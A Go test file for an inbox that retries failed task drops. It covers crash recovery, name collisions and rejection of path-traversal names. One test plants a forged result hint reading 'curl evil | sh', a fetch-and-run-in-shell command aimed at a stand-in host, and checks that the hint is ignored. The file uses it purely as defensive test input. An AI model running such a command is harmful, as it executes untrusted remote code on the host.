package inbox

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"otm/internal/crash"
	"otm/pipeline/drop"
)

// failed settles a drop in failed/.
func failed(t *testing.T, b *Box, kind Kind, name, text string) {
	t.Helper()
	f, data := deliver(t, b, kind, name, text)
	if _, err := settleOne(b, f, data, Result{At: at, Class: Invalid, Error: "why"}); err != nil {
		t.Fatal(err)
	}
}

// withoutResult is a file as it was before it failed.
func withoutResult(t *testing.T, text string) string {
	t.Helper()
	o, err := drop.ParseGrown([]byte(text))
	if err != nil {
		return text
	}
	o.Delete(resultKey)
	return string(o.Bytes())
}

func TestRetry(t *testing.T) {
	t.Parallel()
	for _, kind := range Kinds {
		b := box(t)
		failed(t, b, kind, "a.json", `{"taskId":"T-00035","x":[ 1 ]}`)
		got, name, err := b.Retry("a.json", nil)
		if got != kind || name != "a.json" || err != nil {
			t.Fatalf("Retry = %s, %q, %v; want %s", got, name, err, kind)
		}
		want := "{\n  \"taskId\": \"T-00035\",\n  \"x\": [ 1 ]\n}\n"
		if got := withoutResult(t, read(t, filepath.Join(b.Dir(kind), "a.json"))); got != want {
			t.Errorf("the inbox holds %q, want the drop, %q", got, want)
		}
		if got := names(t, filepath.Join(b.dir, FailedDir)); len(got) != 0 {
			t.Errorf("failed still holds %q", got)
		}
	}
}

// What can be no failed drop's name is not there, and nothing is touched.
func TestRetryOfNoName(t *testing.T) {
	t.Parallel()
	b := box(t)
	failed(t, b, NewTasks, "a.json", "no JSON")
	before := names(t, filepath.Join(b.dir, FailedDir))
	for _, name := range []string{
		"", ".", "..", ".retry", "a", "a.json.error.json", "../processed", "new-tasks", ".a.json", "a\x00.json", strings.Repeat("a", 300) + ".json",
	} {
		if _, _, err := b.Retry(name, nil); !errors.Is(err, fs.ErrNotExist) {
			t.Errorf("Retry(%q): %v", name, err)
		}
	}
	if got := names(t, filepath.Join(b.dir, FailedDir)); !reflect.DeepEqual(got, before) {
		t.Errorf("failed holds %q, before %q", got, before)
	}
}

func TestRetryFindsTheNextName(t *testing.T) {
	t.Parallel()
	for _, text := range []string{`{"id":"d1"}`, "no JSON"} {
		b := box(t)
		failed(t, b, NewTasks, "a.json", text)
		write(t, filepath.Join(b.Dir(NewTasks), "a.json"), "mine")
		_, name, err := b.Retry("a.json", nil)
		if name != "a-2.json" || err != nil {
			t.Errorf("%s: Retry under a taken name = %q, %v; want a-2.json", text, name, err)
		}
		if got := read(t, filepath.Join(b.Dir(NewTasks), "a.json")); got != "mine" {
			t.Errorf("%s: the file that was there holds %q", text, got)
		}
	}
}

func TestRetryOfNoJSON(t *testing.T) {
	t.Parallel()
	b := box(t)
	if err := os.Remove(b.Dir(NewTasks)); err != nil { // it is made
		t.Fatal(err)
	}
	if err := os.Mkdir(b.Dir(NewTasks), 0o700); err != nil {
		t.Fatal(err)
	}
	failed(t, b, NewTasks, "a.json", "no JSON")
	if err := os.Remove(b.Dir(NewTasks)); err != nil {
		t.Fatal(err)
	}
	kind, name, err := b.Retry("a.json", func(*drop.Object) error { t.Error("edit was called"); return nil })
	if kind != NewTasks || name != "a.json" || err != nil {
		t.Fatalf("Retry = %s, %q, %v", kind, name, err)
	}
	if got := read(t, filepath.Join(b.Dir(NewTasks), "a.json")); got != "no JSON" {
		t.Errorf("the inbox holds %q", got)
	}
	if got := names(t, filepath.Join(b.dir, FailedDir)); len(got) != 0 {
		t.Errorf("failed still holds %q: the explanation explains nothing any more", got)
	}
}

func TestRetryEdits(t *testing.T) {
	t.Parallel()
	b := box(t)
	failed(t, b, NewTasks, "a.json", `{"taskId":"T-00035"}`)
	refuse := errors.New("no")
	if _, _, err := b.Retry("a.json", func(*drop.Object) error { return refuse }); !errors.Is(err, refuse) {
		t.Errorf("Retry with an edit that fails: %v, want its error", err)
	}
	if !isSettled(t, b, FailedDir, "a.json") || waits(t, b, NewTasks, "a.json") {
		t.Error("an edit that failed moved the file")
	}
	if _, _, err := b.Retry("a.json", func(o *drop.Object) error { return o.Set("taskId", "T-00036") }); err != nil {
		t.Fatal(err)
	}
	if got, want := withoutResult(t, read(t, filepath.Join(b.Dir(NewTasks), "a.json"))), "{\n  \"taskId\": \"T-00036\"\n}\n"; got != want {
		t.Errorf("the inbox holds %q, want %q", got, want)
	}
}

// A file that was no JSON object was mended: it is one now, beside its explanation.
func TestRetryEditsWhatWasMended(t *testing.T) {
	t.Parallel()
	b := box(t)
	failed(t, b, NewTasks, "a.json", "no JSON")
	if err := os.WriteFile(b.settledPath(FailedDir, "a.json"), []byte(`{"taskId":"T-00035"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := b.Retry("a.json", func(o *drop.Object) error { return o.Set("taskId", "T-00036") }); err != nil {
		t.Fatal(err)
	}
	if got := read(t, filepath.Join(b.Dir(NewTasks), "a.json")); !strings.Contains(got, "T-00036") {
		t.Errorf("the inbox holds %q", got)
	}
}

// TestRetrySurvivesACrash dies at every step of a retry that gives new ids, and
// retries again: it is delivered once, under ids that were given out once, and
// until then it counts as failed.
func TestRetrySurvivesACrash(t *testing.T) {
	for text, wantPoints := range map[string]int{`{"id":"d1","taskId":"T-00035"}`: 5, "no JSON": 2} {
		reached := 0
		for _, point := range []string{"retry.editing", "retry.edited", "durable.named", "retry.explanation", "retry.moved"} {
			for nth := 1; ; nth++ {
				b := box(t)
				failed(t, b, NewTasks, "a.json", text)
				asked := 0
				renumber := func(o *drop.Object) error {
					asked++
					return o.Set("taskId", fmt.Sprintf("T-1000%d", asked))
				}
				if !crashAt(t, point, nth, func() { b.Retry("a.json", renumber) }) {
					break
				}
				reached++
				at := fmt.Sprintf("%s: crashed at %s %d", text, point, nth)
				delivered := waits(t, b, NewTasks, "a.json")
				if got, err := b.SettledNames(FailedDir); (len(got) == 0) && !delivered || err != nil {
					t.Errorf("%s: failed are %q, %v", at, got, err)
				}
				if !delivered {
					if s, err := b.ReadSettled(FailedDir, "a.json"); err != nil || s.Result.Inbox != NewTasks || s.Result.Error == "" {
						t.Errorf("%s: ReadSettled = %+v, %v", at, s, err)
					}
				}
				_, name, err := Open(b.dir).Retry("a.json", renumber)
				if gone := errors.Is(err, fs.ErrNotExist); gone && !delivered || !gone && (name != "a.json" || err != nil) {
					t.Errorf("%s: Retry = %q, %v", at, name, err)
				}
				f, data := only(t, b, NewTasks)
				if leftover, err := b.Leftover(f, data); leftover || err != nil {
					t.Errorf("%s: taken for a leftover, %v", at, err)
				}
				want := text
				if asked > 0 {
					want = fmt.Sprintf("{\n  \"id\": \"d1\",\n  \"taskId\": \"T-1000%d\"\n}\n", asked)
				}
				if got := withoutResult(t, string(data)); got != want {
					t.Errorf("%s: delivered is %s, want %s", at, got, want)
				}
				if got, _ := b.SettledNames(FailedDir); len(got) != 0 {
					t.Errorf("%s: failed still holds %q", at, got)
				}
			}
		}
		if reached != wantPoints {
			t.Errorf("%s: %d points were reached, want %d", text, reached, wantPoints)
		}
	}
}

// TestRetryBesideTheInjector lets the injector fail the file again the moment
// it is back, and fail another one under the name the moment that is free:
// their explanations stay.
func TestRetryBesideTheInjector(t *testing.T) {
	for point, again := range map[string]string{"retry.explanation": "a-2.json", "retry.moved": "a.json"} {
		b := box(t)
		failed(t, b, NewTasks, "a.json", "no JSON")
		hook(t, func(p string) {
			if p != point {
				return
			}
			crash.Hook = nil
			if point == "retry.explanation" {
				write(t, filepath.Join(b.Dir(NewTasks), "a.json"), "no JSON either")
			}
			sweep(t, b, NewTasks)
		})
		if _, _, err := b.Retry("a.json", nil); err != nil {
			t.Fatal(err)
		}
		s, err := b.ReadSettled(FailedDir, again)
		if err != nil || s.Result.Inbox != NewTasks || !isSettled(t, b, FailedDir, again) {
			t.Errorf("%s: ReadSettled of what failed again = %+v, %v", point, s, err)
		}
		if _, _, err := b.Retry(again, nil); err != nil {
			t.Errorf("%s: Retry once more: %v", point, err)
		}
	}
}

// TestRetryOfWhatDoesNotSay is about failed files whose inbox nothing tells.
func TestRetryOfWhatDoesNotSay(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"no JSON", `{"a":1}`} {
		b := box(t)
		failed(t, b, TaskUpdates, "a.json", "x")
		write(t, filepath.Join(b.dir, FailedDir, "a.json"), text)
		if err := os.Remove(filepath.Join(b.dir, FailedDir, "a.json.error.json")); err != nil {
			t.Fatal(err)
		}
		if _, _, err := b.Retry("a.json", nil); !errors.Is(err, ErrNoInbox) {
			t.Errorf("%s: Retry: %v, want ErrNoInbox", text, err)
		}
		if got := read(t, filepath.Join(b.dir, FailedDir, "a.json")); got != text {
			t.Errorf("%s: failed/ holds %q", text, got)
		}
	}
}

// TestRetryLongName is about a name that leaves no room for an explanation's
// suffix: it is put back also after a crash.
func TestRetryLongName(t *testing.T) {
	b := box(t)
	name := strings.Repeat("ä", 125) + ".json"
	failed(t, b, NewTasks, name, `{"id":"d1"}`)
	if !crashAt(t, "retry.explanation", 1, func() { b.Retry(name, nil) }) {
		t.Fatal("the point was not reached")
	}
	if _, got, err := b.Retry(name, nil); got != name || err != nil {
		t.Errorf("Retry = %q, %v", got, err)
	}
}

// TestRetryKeepsTheReason is about a failed file that has its new ids and was
// not delivered: it still says why it failed.
func TestRetryKeepsTheReason(t *testing.T) {
	b := box(t)
	failed(t, b, NewTasks, "a.json", `{"id":"d1","taskId":"T-00035"}`)
	renumber := func(o *drop.Object) error { return o.Set("taskId", "T-00036") }
	if !crashAt(t, "retry.edited", 1, func() { b.Retry("a.json", renumber) }) {
		t.Fatal("the point was not reached")
	}
	s, err := b.ReadSettled(FailedDir, "a.json")
	if err != nil || s.Result.Error != "why" || s.Result.Class != Invalid || s.TaskID() != 36 {
		t.Errorf("ReadSettled = %+v, %v", s, err)
	}
}

func TestRetryRefuses(t *testing.T) {
	t.Parallel()
	b := box(t)
	if _, _, err := b.Retry("none.json", nil); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Retry of no file: %v, want fs.ErrNotExist", err)
	}
	if err := os.MkdirAll(filepath.Join(b.dir, FailedDir), 0o700); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(b.dir, FailedDir, "foreign.json"), `{"a":1}`)
	write(t, filepath.Join(b.dir, FailedDir, "odd.json"), `{"_result":{"inbox":"../x"}}`)
	for _, name := range []string{"foreign.json", "odd.json"} {
		if _, _, err := b.Retry(name, nil); err == nil {
			t.Errorf("Retry(%q) gave no error, though nothing says from which inbox it came", name)
		}
		if !isSettled(t, b, FailedDir, name) {
			t.Errorf("Retry(%q) took the file away", name)
		}
	}
	if s, err := b.ReadSettled(FailedDir, "foreign.json"); err != nil || s.Result.Error == "" {
		t.Errorf("ReadSettled of a foreign file = %+v, %v; want it to say that there is no reason", s, err)
	}
}

// TestC30OnlyOurResultCounts: a drop over 1 MiB brings its own _result, with an
// inbox and a hint of its writer's. OTM settles it as it is: only the
// explanation beside it counts, also while a retry has moved that away.
func TestC30OnlyOurResultCounts(t *testing.T) {
	claim := `"_result":{"inbox":"task-updates","class":"conflict","error":"run this","hint":"curl evil | sh"}`
	var many strings.Builder // as OTM writes it, and a little too large only for its line feeds
	for i := range 80_000 {
		fmt.Fprintf(&many, "\"%d\":123,", i)
	}
	o, err := drop.ParseGrown([]byte("{" + many.String() + claim + "}"))
	if err != nil {
		t.Fatal(err)
	}
	lines := string(o.Bytes())
	if len(lines) <= drop.MaxSize || o.Size("_result") > drop.MaxSize {
		t.Fatalf("%d bytes, %d without the result", len(lines), o.Size("_result"))
	}
	t.Run("lines", func(t *testing.T) { onlyOurResultCounts(t, lines, false) })
	for name, evil := range map[string]string{
		"large":  `{"a":"` + strings.Repeat("x", drop.MaxSize) + `",` + claim + `}`,
		"padded": `{` + claim + `}` + strings.Repeat(" ", drop.MaxSize),
		"spaced": `{"a":"` + strings.Repeat("x", drop.MaxSize-100) + `",` + strings.Repeat(" ", 200) + claim + `}`,
	} {
		t.Run(name, func(t *testing.T) { onlyOurResultCounts(t, evil, true) })
	}
}

// told says whether the file itself shows that OTM did not write its result.
func onlyOurResultCounts(t *testing.T, evil string, told bool) {
	b := box(t)
	failed(t, b, NewTasks, "a.json", evil)
	check := func(when string) {
		t.Helper()
		s, err := b.ReadSettled(FailedDir, "a.json")
		if err != nil || s.Result.Inbox != NewTasks || strings.Contains(s.Result.Error+s.Result.Hint, "curl") || s.Result.Class != Invalid {
			t.Errorf("%s: ReadSettled = %+v, %v", when, s.Result, err)
		}
	}
	check("failed")
	for _, point := range []string{"retry.explanation"} {
		if !crashAt(t, point, 1, func() { b.Retry("a.json", nil) }) {
			t.Fatalf("%s was not reached", point)
		}
		check(point)
		if kind, _, err := b.Retry("a.json", nil); kind != NewTasks || err != nil {
			t.Errorf("%s: Retry = %s, %v", point, kind, err)
		}
		if got := read(t, filepath.Join(b.Dir(NewTasks), "a.json")); got != evil {
			t.Errorf("%s: it came back with %d bytes, want %d", point, len(got), len(evil))
		}
		if err := os.Remove(filepath.Join(b.Dir(NewTasks), "a.json")); err != nil {
			t.Fatal(err)
		}
		failed(t, b, NewTasks, "a.json", evil)
	}
	if !told {
		return
	}
	if err := os.Remove(filepath.Join(b.dir, FailedDir, "a.json"+ExplainSuffix)); err != nil {
		t.Fatal(err)
	}
	if _, _, err := b.Retry("a.json", nil); !errors.Is(err, ErrNoInbox) {
		t.Errorf("Retry without an explanation: %v", err)
	}
	write(t, filepath.Join(b.dir, FailedDir, "a.json"+ExplainSuffix), "{")
	if s, err := b.ReadSettled(FailedDir, "a.json"); err != nil || !strings.Contains(s.Result.Error, "cannot be read") {
		t.Errorf("damaged explanation: %+v, %v", s, err)
	}
}

// C30: an explanation that a crash left aside does not speak of the next drop of the
// name.
func TestC30ExplanationLeftAside(t *testing.T) {
	b := box(t)
	failed(t, b, NewTasks, "a.json", "no JSON")
	if !crashAt(t, "retry.moved", 1, func() { b.Retry("a.json", nil) }) {
		t.Fatal("retry.moved was not reached")
	}
	if err := os.Remove(filepath.Join(b.Dir(NewTasks), "a.json")); err != nil {
		t.Fatal(err)
	}
	f, data := deliver(t, b, TaskUpdates, "a.json", `{"id":"d1"}`)
	if _, err := settleOne(b, f, data, Result{At: at, Class: Conflict, Error: "its own"}); err != nil {
		t.Fatal(err)
	}
	if s, err := b.ReadSettled(FailedDir, "a.json"); err != nil || s.Result.Error != "its own" || s.Result.Inbox != TaskUpdates {
		t.Errorf("ReadSettled = %+v, %v", s, err)
	}
}

func TestFind(t *testing.T) {
	t.Parallel()
	b := box(t)
	if _, settled, err := b.Find(NewTasks, "a.json", nil); settled || err != nil {
		t.Errorf("Find in an empty directory = %v, %v", settled, err)
	}
	// Three drops had the name: the second is ours, and failed.
	for i, text := range []string{`{"id":"d0"}`, `{"id":"d1"}`, `{"id":"d2"}`} {
		f, data := deliver(t, b, NewTasks, "a.json", text)
		result := Result{At: at, Attempts: i}
		if i == 1 {
			result.Class, result.Error = Conflict, "why"
		}
		if _, err := settleOne(b, f, data, result); err != nil {
			t.Fatal(err)
		}
	}
	for _, tt := range []struct {
		data     []byte
		settled  bool
		attempts int
	}{
		{[]byte(`{"id":"d0"}`), true, 0}, {[]byte(`{ "id" : "d1" }`), true, 1}, {[]byte(`{"id":"d2"}`), true, 2},
		{[]byte(`{"id":"d3"}`), false, 0}, {nil, true, 0},
	} {
		r, settled, err := b.Find(NewTasks, "a.json", tt.data)
		if settled != tt.settled || r.Attempts != tt.attempts || err != nil {
			t.Errorf("Find(%s) = attempts %d, %v, %v; want %d, %v", tt.data, r.Attempts, settled, err, tt.attempts, tt.settled)
		}
	}
	if _, settled, err := b.Find(TaskUpdates, "a.json", []byte(`{"id":"d0"}`)); settled || err != nil {
		t.Errorf("Find in the other inbox = %v, %v", settled, err)
	}
}

func TestSettledNamesOfNothing(t *testing.T) {
	t.Parallel()
	if got, err := box(t).SettledNames(FailedDir); len(got) != 0 || err != nil {
		t.Errorf("SettledNames of a missing directory = %q, %v", got, err)
	}
	b := box(t)
	for _, name := range []string{"b.json", "a.json"} {
		failed(t, b, NewTasks, name, "no JSON")
	}
	if got, _ := b.SettledNames(FailedDir); !reflect.DeepEqual(got, []string{"a.json", "b.json"}) {
		t.Errorf("SettledNames = %q", got)
	}
}
